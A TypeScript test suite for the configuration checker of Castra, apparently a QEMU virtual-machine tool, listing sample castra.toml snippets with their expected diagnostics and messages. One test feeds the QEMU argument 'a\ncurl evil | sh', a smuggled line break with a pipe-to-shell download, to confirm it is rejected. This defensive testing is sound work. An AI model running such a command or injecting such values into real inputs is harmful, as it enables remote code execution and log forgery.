import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyzeMarked, HEAD } from './marked.ts';

interface Case {
  readonly title: string;
  /** With «…» around each fault, ‹…› around the other end of a conflict. */
  readonly text: string;
  /** Code of each fault, in order; warnings end in `?`. */
  readonly codes: readonly string[];
  readonly message?: string;
  /** Of the first; `null` when there must be none. */
  readonly help?: string | null;
}

const VM = `${HEAD}[[vms]]\nname = "web"\n`;
const DB = '[[vms]]\nname = "db"\n';
const forward = (lines: string) => `[[vms.port_forwards]]\n${lines}\n`;

const CASES: readonly Case[] = [
  // Shape
  {
    title: 'an empty file lacks all three things',
    text: '«»«»«»',
    codes: ['config/missing-key', 'config/missing-key', 'config/missing-key'],
    message: 'The file needs `version`.',
    help: 'Add `version = "0.2.0"` at the top.',
  },
  {
    title: 'what the file lacks is told at its first line',
    text: '««version = "0.2"»»',
    codes: ['config/missing-key', 'config/missing-key'],
    message: 'The file needs `project`.',
    help: 'Add a `[project]` table with a `name`.',
  },
  {
    title: 'a header lacks a key',
    text: 'version = "0.2"\n[«project»]\n[[«vms»]]\ncpus = 2',
    codes: ['config/missing-key', 'config/missing-key'],
    message: '`project` needs `name`.',
    help: 'Add `name = "…"`.',
  },
  {
    title: 'an inline table lacks a key, and is underlined itself where it has no name',
    text: 'version = "0.2"\n«project» = {}\nvms = [«{}», { name = "a", port_forwards = [«{ host = 1 }»] }]',
    codes: ['config/missing-key', 'config/missing-key', 'config/missing-key'],
  },
  {
    title: 'a forward lacks both of its keys',
    text: `${VM}[[vms.«««port_forwards»»]]`.replace('«««', '««'),
    codes: ['config/missing-key', 'config/missing-key'],
    message: '`vms[0].port_forwards[0]` needs `host`.',
    help: 'Add `host = 0` for any free port, or a port number.',
  },
  {
    title: 'an instance lacks its id',
    text: `${VM}[[vms.«instances»]]\ncpus = 4`,
    codes: ['config/missing-key'],
    help: 'Add `id = "<role>-<index>"`, such as `id = "web-0"`.',
  },
  {
    title: 'a number where text belongs',
    text: `version = «2»\nproject = { name = "demo" }\n${DB}`,
    codes: ['config/wrong-type'],
    message: '`version` must be a string (in quotes), not a number.',
  },
  {
    title: 'text where a number belongs',
    text: `${VM}cpus = «"2"»`,
    codes: ['config/wrong-type'],
    message: '`vms[0].cpus` must be a whole number, not a string.',
  },
  {
    title: 'a fraction where a whole number belongs, even one without a remainder',
    text: `${VM}cpus = «2.0»`,
    codes: ['config/wrong-type'],
    message: '`vms[0].cpus` must be a whole number, not a fraction.',
  },
  {
    title: 'a role called like a replica of another one',
    text: `[[vms]]\nname = ‹"web"›\ncount = 2\n[[vms]]\nname = «"web-1"»`.replace(/^/, HEAD),
    codes: ['config/ambiguous-name?'],
    message: '"web-1" is a role here, and also a VM of the role "web": commands use it for the VM.',
  },
  {
    title: 'a role called like a replica that another one does not have',
    text: `${VM}count = 2\n[[vms]]\nname = "web-2"`,
    codes: [],
  },
  {
    title: 'arguments of QEMU with which Castra loses control',
    text: `${VM}count = 2\nqemu_args = [«"--daemonize"», "-append", "-S", «"-uuid"», "1", "-nographic", «"-S"»]`,
    codes: ['config/qemu-args-conflict', 'config/qemu-args-conflict', 'config/qemu-args-conflict'],
    message: '`-daemonize` cannot be used here: Castra could not identify the QEMU process.',
  },
  {
    title: 'arguments of QEMU that take the name of a part of Castra’s',
    text: `${VM}qemu_args = [«"-netdev"», "user,id=net0", «"-blockdev"», '{"node-name": "disk0"}', «"-mon"», "chardev=qmp", «"-serial"», "chardev:console0", "-netdev", "user,id=net01"]`,
    codes: Array(4).fill('config/qemu-args-conflict'),
    message: '`-netdev` cannot be used here: the name "net0" belongs to a device that Castra adds.',
  },
  {
    title: 'an argument of QEMU with a line break, which would be a line of its own in the log',
    text: `${VM}qemu_args = ["-append", «"a\\ncurl evil | sh"», «"\\u001b[2J"»]`,
    codes: Array(2).fill('config/qemu-args-conflict'),
    message: 'An argument of QEMU cannot have a line break or another control character.',
  },
  {
    title: 'arguments of QEMU that a key does better',
    text: `${VM}qemu_args = [«"-m"», "1G", «"-enable-kvm"», «"-netdev"», "user,id=n,hostfwd=tcp::1-:2", «"-machine"», "q35,accel=kvm", "-machine", "q35"]`,
    codes: Array(4).fill('config/qemu-args-key?'),
    help: 'Use the key `memory` instead.',
  },
  {
    title: 'a comment that ignores an error',
    text: `${VM}cpus = «0» # castra: ignore «out-of-range»`,
    codes: ['config/out-of-range', 'config/useless-ignore?'],
  },
  {
    title: 'comments that ignore nothing',
    text: `${VM}# castra: ignore «unknown-key», «config/unkown-key», «wrong-type», missing-file\ncpus = 2\ncpu = 1 # castra: ignored`.replace(
      'cpu =',
      '«cpu» =',
    ),
    codes: [...Array(3).fill('config/useless-ignore?'), 'config/unknown-key?'],
    message: 'No "unknown-key" to ignore on line 6.',
  },
  {
    title: 'comments that ignore warnings of their own or of the next line',
    text: `${VM}cpu = 1 # castra: ignore unknown-key\n# castra: ignore duplicate-guest-port,config/unknown-key\n# both\nport_forwards = [{ host = 1, guest = 1 }, { host = 2, guest = 1, gest = 1 }]`,
    codes: [],
  },
  {
    title: 'needs that name nothing, or the role itself',
    text: `${VM}needs = [«"bd"», "db-0", «"web-0"», "db"]\n${DB}`,
    codes: ['config/unknown-need', 'config/needs-itself'],
    message: 'No VM or role is called "bd".',
    help: 'Did you mean "db"?',
  },
  {
    title: 'roles that need each other in a circle, and one outside that needs them',
    text: `${HEAD}[[vms]]\nname = "out"\nneeds = ["a"]\n[[vms]]\nname = "a"\nneeds = ["x", «"b-0"»]\n[[vms]]\nname = "x"\n[[vms]]\nname = "b"\nneeds = [‹"c"›]\n[[vms]]\nname = "c"\nneeds = [‹"a"›]`,
    codes: ['config/needs-cycle'],
    message: '"a" needs "b" needs "c" needs "a": none of them can start first.',
  },
  {
    title: 'a number that no JavaScript number holds',
    text: `${VM}cpus = «9223372036854775807»`,
    codes: ['config/wrong-type'],
    message: '`vms[0].cpus` must be a whole number, not one that large.',
  },
  {
    title: 'one pair of brackets where two belong',
    text: `${HEAD}«[vms]»\nname = "web"`,
    codes: ['config/wrong-type'],
    message: '`vms` must be an array, not a table.',
    help: 'Write `[[vms]]`: each such header adds one element.',
  },
  {
    title: 'a wrong value in an environment',
    text: `${VM}[vms.bootstrap]\nenv = { A = «1» }`,
    codes: ['config/wrong-type'],
  },
  {
    title: 'no processor at all',
    text: `${VM}cpus = «0»`,
    codes: ['config/out-of-range'],
    message: '`vms[0].cpus` must be at least 1.',
  },
  { title: 'too many processors', text: `${VM}cpus = «513»`, codes: ['config/out-of-range'] },
  { title: 'no replica', text: `${VM}count = «0»`, codes: ['config/out-of-range'] },
  {
    title: 'a port that does not exist',
    text: `${VM}${forward('host = «65536»\nguest = «0»')}`,
    codes: ['config/out-of-range', 'config/out-of-range'],
  },
  {
    title: 'no VM at all',
    text: `${HEAD}vms = «[]»`,
    codes: ['config/invalid-value'],
    message: '`vms` must not be empty.',
  },
  {
    title: 'an empty version',
    text: `version = «""»\nproject = { name = "demo" }\n${DB}`,
    codes: ['config/invalid-value'],
  },
  {
    title: 'an empty project name',
    text: `version = "0.2"\nproject = { name = «""» }\n${DB}`,
    codes: ['config/invalid-value'],
  },
  {
    title: 'empty VM names, which are no duplicates',
    text: `${HEAD}[[vms]]\nname = «""»\n[[vms]]\nname = «""»`,
    codes: ['config/invalid-value', 'config/invalid-value'],
    message: '`vms[0].name` must not be empty.',
  },
  { title: 'an empty instance id', text: `${VM}[[vms.instances]]\nid = «""»`, codes: ['config/invalid-value'] },
  {
    title: 'a word that is none of the allowed ones',
    text: `${VM}accelerator = «"kvn"»`,
    codes: ['config/invalid-value'],
    message: '`vms[0].accelerator` must be one of "auto", "kvm", "hvf", "whpx", "tcg".',
    help: 'Did you mean "kvm"?',
  },
  {
    title: 'a mode that does not exist',
    text: `${VM}bootstrap = { mode = «"sometimes"» }`,
    codes: ['config/invalid-value'],
    help: null,
  },
  {
    title: 'bind takes IPv4 addresses only',
    text: `${VM}port_forwards = [{ host = 1, guest = 1, bind = «"localhost"» }, { host = 2, guest = 2, bind = «"::1"» }, { host = 3, guest = 3, bind = «"1.2.3.256"» }]`,
    codes: ['config/invalid-value', 'config/invalid-value', 'config/invalid-value'],
    message: '`vms[0].port_forwards[0].bind` must be an IPv4 address, such as "127.0.0.1".',
  },
  {
    title: 'a protocol that does not exist',
    text: `${VM}${forward('host = 1\nguest = 1\nprotocol = «"tdp"»')}`,
    codes: ['config/invalid-value'],
  },
  {
    title: 'ready without a pattern',
    text: `${VM}ready = «"serial:"»`,
    codes: ['config/invalid-value'],
    message: '`vms[0].ready` must be "ssh", "none" or "serial:<regular expression>".',
  },
  { title: 'a user name that no guest has', text: `${VM}ssh_user = «"Root"»`, codes: ['config/invalid-value'] },
  {
    title: 'a misspelt key is ignored with a suggestion',
    text: `${VM}«cpu» = 2`,
    codes: ['config/unknown-key?'],
    message: 'Unknown key `cpu` in `vms[0]`; it is ignored.',
    help: 'Did you mean `cpus`?',
  },
  {
    title: 'a misspelt header',
    text: `${VM}[«lifecycel»]`,
    codes: ['config/unknown-key?'],
    help: 'Did you mean `lifecycle`?',
  },
  {
    title: 'a key that is like no other',
    text: `${VM}[broker]\n«colour» = 1`,
    codes: ['config/unknown-key?'],
    help: 'Known keys: enabled, port, auth, journal, slow_consumer, publish_rate.',
  },
  { title: 'a key with signs of its own', text: `${VM}[broker]\n«"a/b~c d"» = 1`, codes: ['config/unknown-key?'] },
  {
    title: 'keys that every object has',
    text: `${VM}«__proto__» = 1\n«constructor» = 2`,
    codes: ['config/unknown-key?', 'config/unknown-key?'],
  },

  // Version
  {
    title: 'a version that is none',
    text: `version = «"new"»\nproject = { name = "demo" }\n${DB}`,
    codes: ['config/version-unsupported'],
    message: '"new" is not a version.',
    help: 'Write `version = "0.2.0"`.',
  },
  {
    title: 'four parts are no version',
    text: `version = «"0.2.0.1"»\nproject = { name = "demo" }\n${DB}`,
    codes: ['config/version-unsupported'],
  },
  {
    title: 'a version before the first',
    text: `version = «"0.0.9"»\nproject = { name = "demo" }\n${DB}`,
    codes: ['config/version-unsupported'],
    message: 'Version 0.0.9 is not supported; the oldest is 0.1.0.',
  },
  {
    title: 'a version to come',
    text: `version = «"0.3"»\nproject = { name = "demo" }\n${DB}`,
    codes: ['config/version-newer?'],
    help: 'Update Castra, or write `version = "0.2.0"`.',
  },
  {
    title: 'version 0.1 has no replicas',
    text: `version = "0.1"\nproject = { name = "demo" }\n${DB}«count» = 2\n[[vms.«instances»]]\nid = "db-0"`,
    codes: ['config/replicas-need-0.2', 'config/replicas-need-0.2'],
    message: 'Version 0.1 has no `count`.',
  },

  // Names
  {
    title: 'a name that cannot be a host name',
    text: `${HEAD}[[vms]]\nname = «"Web App"»`,
    codes: ['config/invalid-vm-name'],
    help: 'Call it "web-app".',
  },
  {
    title: 'reserved names',
    text: `${HEAD}[[vms]]\nname = «"host"»\n[[vms]]\nname = «"broker"»\n[[vms]]\nname = «"bus"»\n[[vms]]\nname = «"operation"»`,
    codes: Array(4).fill('config/invalid-vm-name'),
    message: '"host" is reserved for Castra itself.',
    help: 'Choose another name.',
  },
  {
    title: 'a name of 64 characters',
    text: `version = "0.1"\nproject = { name = "demo" }\n[[vms]]\nname = «"${'a'.repeat(64)}"»`,
    codes: ['config/invalid-vm-name'],
    help: `Call it "${'a'.repeat(63)}".`,
  },
  {
    title: 'a name that is too long with the number of its replica',
    text: `${HEAD}[[vms]]\nname = «"${'a'.repeat(62)}"»`,
    codes: ['config/invalid-vm-name'],
    help: 'Choose a shorter name.',
  },
  {
    title: 'a suggested name leaves room for the number',
    text: `${HEAD}[[vms]]\nname = «"${'A'.repeat(64)}"»`,
    codes: ['config/invalid-vm-name'],
    help: 'Choose a shorter name.',
  },
  {
    title: 'two VMs with one name',
    text: `${HEAD}[[vms]]\nname = ‹"web"›\n[[vms]]\nname = «"web"»\n[[vms]]\nname = «"web"»`,
    codes: ['config/duplicate-vm-name', 'config/duplicate-vm-name'],
    message: 'Two VMs are called "web-0".',
  },
  {
    title: 'two roles with one name and replicas are one fault',
    text: `${HEAD}[[vms]]\nname = ‹"web"›\ncount = 3\n[[vms]]\nname = «"web"»\ncount = 2`,
    codes: ['config/duplicate-vm-name'],
  },

  // Instances
  {
    title: 'an instance of another role',
    text: `${VM}count = 2\n[[vms.instances]]\nid = «"db-0"»`,
    codes: ['config/instance-id'],
    message: '"db-0" is not an instance of "web".',
    help: 'Instances are "web-0" to "web-1".',
  },
  {
    title: 'an instance without a number',
    text: `${VM}[[vms.instances]]\nid = «"web-one"»`,
    codes: ['config/instance-id'],
    message: '"web-one" has no number after "web-".',
    help: 'The only instance is "web-0".',
  },
  {
    title: 'an instance with leading zeros',
    text: `${VM}count = 2\n[[vms.instances]]\nid = «"web-01"»`,
    codes: ['config/instance-id'],
    message: '"web-01" has leading zeros; it is "web-1".',
  },
  {
    title: 'an instance beyond the count',
    text: `${VM}count = 2\n[[vms.instances]]\nid = «"web-2"»`,
    codes: ['config/instance-id'],
    message: '"web-2" does not exist: "web" has a count of 2.',
  },
  {
    title: 'an instance that is described twice',
    text: `${VM}[[vms.instances]]\nid = ‹"web-0"›\n[[vms.instances]]\nid = «"web-0"»`,
    codes: ['config/duplicate-instance'],
    help: 'Merge them into one table.',
  },
  {
    title: 'a wrong count makes no instance id wrong',
    text: `${VM}count = «0»\n[[vms.instances]]\nid = "web-7"`,
    codes: ['config/out-of-range'],
  },
  {
    title: 'a missing name makes no instance id wrong',
    text: `${HEAD}[[«vms»]]\n[[vms.instances]]\nid = "web-7"`,
    codes: ['config/missing-key'],
  },

  // Images and overlays
  {
    title: 'managed_image of a role is told once',
    text: `${VM}count = 3\n«managed_image» = { name = "alpine-minimal", version = "v1" }`,
    codes: ['config/managed-image'],
    message: '`managed_image` is no longer supported.',
  },
  {
    title: 'managed_image of a later instance',
    text: `${VM}count = 2\n[[vms.instances]]\nid = "web-1"\n[vms.instances.«managed_image»]\nname = "alpine-minimal"`,
    codes: ['config/managed-image'],
  },
  {
    title: 'an image of a URL and its digest',
    text: `${VM}base_image = "https://images.example/web.qcow2"\nbase_image_sha256 = "${'a'.repeat(64)}"`,
    codes: [],
  },
  {
    title: 'a digest that is too short',
    text: `${VM}base_image = "https://images.example/web.qcow2"\nbase_image_sha256 = «"abc"»`,
    codes: ['config/invalid-value'],
    message: '`vms[0].base_image_sha256` must be 64 hexadecimal digits.',
  },
  {
    title: 'plain HTTP without a digest',
    text: `${VM}base_image = «"http://images.example/web.qcow2"»`,
    codes: ['config/http-without-digest'],
  },
  {
    title: 'plain HTTP with a digest',
    text: `${VM}base_image = "http://images.example/web.qcow2"\nbase_image_sha512 = "${'a'.repeat(128)}"`,
    codes: [],
  },
  {
    title: 'a URL that nobody here can follow',
    text: `${VM}base_image = «"ftp://images.example/web.qcow2"»`,
    codes: ['config/image-url'],
  },
  {
    title: 'a URL with a "%" of its own',
    text: `${VM}base_image = «"https://images.example/100%.qcow2"»`,
    codes: ['config/image-url'],
  },
  {
    title: 'a digest beside a path',
    text: `${VM}base_image = "web.qcow2"\n«base_image_sha256» = "${'a'.repeat(64)}"`,
    codes: ['config/digest-without-url'],
  },
  {
    title: "a replica with an image of its own does not take its role's digest",
    text: `${VM}base_image = "https://images.example/web.qcow2"\nbase_image_sha256 = "${'a'.repeat(64)}"\ninstances = [{ id = "web-0", base_image = "web.qcow2" }]`,
    codes: [],
  },
  {
    title: 'two digests',
    text: `${VM}base_image = "https://images.example/web.qcow2"\n«base_image_sha256» = "${'a'.repeat(64)}"\nbase_image_sha512 = ‹"${'b'.repeat(128)}"›`,
    codes: ['config/two-digests'],
  },
  {
    title: 'a disk of no size',
    text: `${VM}overlay_size = «"0 GiB"»`,
    codes: ['config/invalid-size'],
    message: '"0 GiB" is not a valid disk size.',
  },
  {
    title: 'a limit for images that is no size',
    text: `${VM}[images]\nmax_size = «"plenty"»`,
    codes: ['config/invalid-size'],
    message: '"plenty" is not a valid size for images; the minimum is 1 MiB.',
  },
  {
    title: 'a log that would be rotated all the time',
    text: `${VM}[logs]\nmax_size = «"10 KiB"»`,
    codes: ['config/invalid-size'],
  },
  {
    title: 'two VMs with one overlay',
    text: `${VM}overlay = ‹"disk.qcow2"›\n${DB}overlay = «"./disk.qcow2"»`,
    codes: ['config/duplicate-overlay'],
    message: '"web-0" and "db-0" have the same overlay /srv/demo/disk.qcow2.',
  },
  {
    title: 'two roles with replicas and one overlay are one fault',
    text: `${VM}count = 3\noverlay = ‹"disk.qcow2"›\n${DB}count = 3\noverlay = «"disk.qcow2"»`,
    codes: ['config/duplicate-overlay'],
  },
  {
    title: 'two instances with one overlay',
    text: `${VM}count = 2\ninstances = [{ id = "web-0", overlay = ‹"a.qcow2"› }, { id = "web-1", overlay = «"a.qcow2"» }]`,
    codes: ['config/duplicate-overlay'],
  },
  {
    title: 'an overlay that is the file itself',
    text: `${VM}overlay = «"./castra.toml"»`,
    codes: ['config/overlay-is-config'],
    message: 'The overlay of "web-0" is this file, which would be overwritten.',
  },
  {
    title: 'an overlay that is a base image',
    text: `${VM}base_image = "base.qcow2"\n${DB}overlay = «"base.qcow2"»`,
    codes: ['config/overlay-is-base-image'],
    message: 'The overlay of "db-0" is the base image of "web-0", which would be deleted.',
  },
  {
    title: 'an overlay that becomes a base image by its number',
    text: `${VM}count = 2\nbase_image = "disk-1.qcow2"\noverlay = «"disk.qcow2"»`,
    codes: ['config/overlay-is-base-image'],
    message: 'The overlay of "web-1" is the base image of "web-0", which would be deleted.',
  },
  {
    title: 'an overlay that leads out of the project',
    text: `${VM}count = 3\noverlay = «"../disk.qcow2"»`,
    codes: ['config/overlay-outside-project'],
    help: 'Castra deletes overlays after a stop. Move it into the project, remove `overlay`, or write the absolute path /srv/disk.qcow2 to confirm.',
  },
  {
    title: 'an overlay that leads out of the state root',
    text: `${VM}overlay = «".castra/../x.qcow2"»`,
    codes: ['config/overlay-outside-project'],
  },
  {
    title: 'an absolute overlay may lie outside the project',
    text: `${VM}overlay = "/var/tmp//disk.qcow2"`,
    codes: [],
  },
  {
    title: 'an absolute overlay with .. is not taken for meant',
    text: `${VM}overlay = «"/srv/demo/../disk.qcow2"»`,
    codes: ['config/overlay-outside-project'],
  },

  // Memory
  ...['-5', '"-5 GiB"', '"nan"', '"lots"', '"2 GiB extra"', '"1.5 pb"', '"1e3"', '""', '"99999999999999999999"'].map(
    (memory) => ({
      title: `memory ${memory} is no amount`,
      text: `${VM}memory = «${memory}»`,
      codes: ['config/invalid-memory'],
      message: `"${memory.replaceAll('"', '')}" is not a valid amount of memory.`,
      help: 'Write it as "2 GiB", "512MiB" or "2048" (MiB).',
    }),
  ),
  ...['0', '31', '"0"', '"31 MiB"', '"31.9"', '"1000 b"', '"0001"'].map((memory) => ({
    title: `memory ${memory} is too little`,
    text: `${VM}memory = «${memory}»`,
    codes: ['config/invalid-memory'],
    message: `"${memory.replaceAll('"', '')}" is too little memory; a VM has at least 32 MiB.`,
  })),
  ...['16777217', '"17 TiB"', '"999999999999 TiB"', '"999999999"'].map((memory) => ({
    title: `memory ${memory} is too much`,
    text: `${VM}memory = «${memory}»`,
    codes: ['config/invalid-memory'],
    message: `"${memory.replaceAll('"', '')}" is too much memory; a VM has at most 16 TiB.`,
  })),
  ...['nan', 'inf', '-inf', '1.5', '9223372036854775807', 'true', '[]'].map((memory) => ({
    title: `memory ${memory} has the wrong type and nothing else`,
    text: `${VM}memory = «${memory}»`,
    codes: ['config/wrong-type'],
  })),
  {
    title: 'bad memory of a role is told once',
    text: `${VM}count = 5\nmemory = «"1 MiB"»`,
    codes: ['config/invalid-memory'],
  },
  {
    title: 'bad memory of one instance',
    text: `${VM}count = 2\ninstances = [{ id = "web-1", memory = «"1 MiB"» }]`,
    codes: ['config/invalid-memory'],
  },

  // Ports
  {
    title: 'one VM wants a port twice',
    text: `${VM}${forward('host = ‹80›\nguest = 80')}${forward('host = «80»\nguest = 81')}`,
    codes: ['config/duplicate-host-port'],
    message: '"web-0" forwards host port 80/tcp twice.',
  },
  {
    title: 'two VMs want one port',
    text: `${VM}${forward('host = ‹80›\nguest = 80')}${DB}${forward('host = «80»\nguest = 80')}`,
    codes: ['config/duplicate-host-port'],
    message: '"db-0" and "web-0" both want host port 80/tcp.',
    help: 'Choose another `host`, or `host = 0` for any free port. Replicas take `host`, `host + 1`, and so on.',
  },
  {
    title: 'tcp and udp of one number do not conflict',
    text: `${VM}${forward('host = 80\nguest = 80')}${forward('host = 80\nguest = 80\nprotocol = "UDP"')}`,
    codes: [],
  },
  {
    title: 'two addresses with one number do not conflict',
    text: `${VM}${forward('host = 80\nguest = 80')}${forward('host = 80\nguest = 81\nbind = "127.0.0.2"')}`,
    codes: [],
  },
  {
    title: '0.0.0.0 conflicts with every address',
    text: `${VM}${forward('host = ‹80›\nguest = 80')}${forward('host = «80»\nguest = 81\nbind = "0.0.0.0"')}`,
    codes: ['config/duplicate-host-port'],
  },
  {
    title: 'any free port may be asked for twice',
    text: `${VM}${forward('host = 0\nguest = 80')}${forward('host = 0\nguest = 81')}`,
    codes: [],
  },
  {
    title: 'a replica reaches the port of another VM',
    text: `${VM}count = 3\n${forward('host = ‹80›\nguest = 80')}${DB}${forward('host = «82»\nguest = 80')}`,
    codes: ['config/duplicate-host-port'],
    message: '"db-0" and "web-2" both want host port 82/tcp.',
  },
  {
    title: 'two roles whose replicas all conflict are one fault',
    text: `${VM}count = 3\n${forward('host = ‹80›\nguest = 80')}${DB}count = 3\n${forward('host = «80»\nguest = 80')}`,
    codes: ['config/duplicate-host-port'],
  },
  {
    title: 'the default port of the broker',
    text: `${VM}${forward('host = «7070»\nguest = 80')}`,
    codes: ['config/broker-port'],
    message: 'Host port 7070 belongs to the broker.',
  },
  {
    title: 'a declared port of the broker',
    text: `${HEAD}broker = { port = ‹9000› }\n${DB}${forward('host = «9000»\nguest = 80')}`,
    codes: ['config/broker-port'],
  },
  {
    title: 'a replica reaches the broker',
    text: `${VM}count = 100\n${forward('host = «7000»\nguest = 80')}`,
    codes: ['config/broker-port'],
  },
  {
    title: 'the broker speaks tcp on 127.0.0.1 only',
    text: `${VM}${forward('host = 7070\nguest = 80\nprotocol = "udp"')}${forward('host = 7070\nguest = 81\nbind = "127.0.0.2"')}`,
    codes: [],
  },
  {
    title: 'replicas run out of ports',
    text: `${VM}count = 10\n${forward('host = «65530»\nguest = 80')}`,
    codes: ['config/host-port-range'],
    message: '"web-6" would get host port 65536, which does not exist.',
    help: 'Choose a lower `host`, or `host = 0` for any free port.',
  },
  {
    title: 'two ways to one guest port',
    text: `${VM}count = 2\n${forward('host = 0\nguest = ‹80›')}${forward('host = 0\nguest = «80»')}`,
    codes: ['config/duplicate-guest-port?'],
    message: '"web-0" forwards to guest port 80/tcp more than once.',
  },
  {
    title: 'two ways to one guest port of a later instance',
    text: `${VM}count = 2\n[[vms.instances]]\nid = "web-1"\nport_forwards = [{ host = 0, guest = ‹80› }, { host = 0, guest = «80» }]`,
    codes: ['config/duplicate-guest-port?'],
  },

  // Readiness
  {
    title: 'a pattern that is none',
    text: `${VM}count = 2\nready = «"serial:login: ("»`,
    codes: ['config/invalid-regex'],
    message: '"login: (" is not a regular expression: Unterminated group.',
    help: 'It has the syntax of RE2: no lookahead, lookbehind or back reference. Put a backslash before characters that stand for themselves.',
  },

  {
    title: 'a pattern that no engine matches in linear time',
    text: `${VM}ready = «"serial:(?=log)in:"»`,
    codes: ['config/invalid-regex'],
    message: '"(?=log)in:" is not a regular expression: it has `(?=`, which no engine matches in linear time.',
  },

  // Syntax
  { title: 'a value that is still to come', text: `${VM}cpus «=»`, codes: ['toml/missing-value'] },
  { title: 'half a key', text: `${VM}«cpu»`, codes: ['toml/missing-equals'] },
  { title: 'a key that is defined twice', text: `${VM}‹cpus› = 2\n«cpus» = 3`, codes: ['toml/duplicate-key'] },
  {
    title: 'a table that is defined twice',
    text: `${VM}[‹broker›]\nport = 1\n[«broker»]`,
    codes: ['toml/redefined-table'],
  },
  {
    title: 'what an open string holds so far is not judged',
    text: `version = «"0.»\n[project]\nname = «"»\n[[vms]]\nname = «"We»\noverlay = «"../»\nmemory = «"2 G»\naccelerator = «"kv»\nready = «"serial:(»`,
    codes: Array(7).fill('toml/unterminated-string'),
  },
  {
    title: 'what an open table lacks may still come',
    text: `${VM}port_forwards = [«{» host = 1`,
    codes: ['toml/unclosed-inline-table'],
  },
  {
    title: 'values that are missing have no type and no range',
    text: `version «=» \n[project]\nname «=» \n[[vms]]\nname «=» \ncpus «=» \nmemory «=» \nport_forwards = [{ host «=» , guest «=» }]`,
    codes: Array(7).fill('toml/missing-value'),
  },
  {
    title: 'a count that is being typed makes no instance id wrong',
    text: `${VM}count «=» \n[[vms.instances]]\nid = "web-7"`,
    codes: ['toml/missing-value'],
  },
  {
    title: 'syntax errors do not hide what else is wrong',
    text: `version = "0.2.0"\n[project]\nname = «"demo»\n[[vms]]\nname = «"Web"»\ncpus = «0»\n«memry» = 1\nmemory = «"1 MiB"»\n${forward('host = «7070»\nguest = 80\nbind «=» ')}`,
    codes: [
      'toml/unterminated-string',
      'config/invalid-vm-name',
      'config/out-of-range',
      'config/unknown-key?',
      'config/invalid-memory',
      'config/broker-port',
      'toml/missing-value',
    ],
  },
];

for (const { title, text, codes, message, help } of CASES) {
  test(title, () => {
    const diagnostics = analyzeMarked(text);
    assert.deepEqual(
      diagnostics.map(({ code, severity }) => `${code}${severity === 'warning' ? '?' : ''}`),
      codes,
    );
    if (message !== undefined) assert.equal(diagnostics[0]?.message, message);
    if (help !== undefined) assert.equal(diagnostics[0]?.help ?? null, help);
  });
}

test('messages are one sentence with one full stop, and everything names its file', () => {
  for (const { text } of CASES) {
    for (const { message, help, path, related = [] } of analyzeMarked(text)) {
      assert.equal(path, '/srv/demo/castra.toml');
      for (const words of [message, help ?? '.', ...related.map((other) => other.message)])
        assert.match(words, /[^.][.?]$|^\.$/);
      for (const other of related) assert.equal(other.path, path);
    }
  }
});
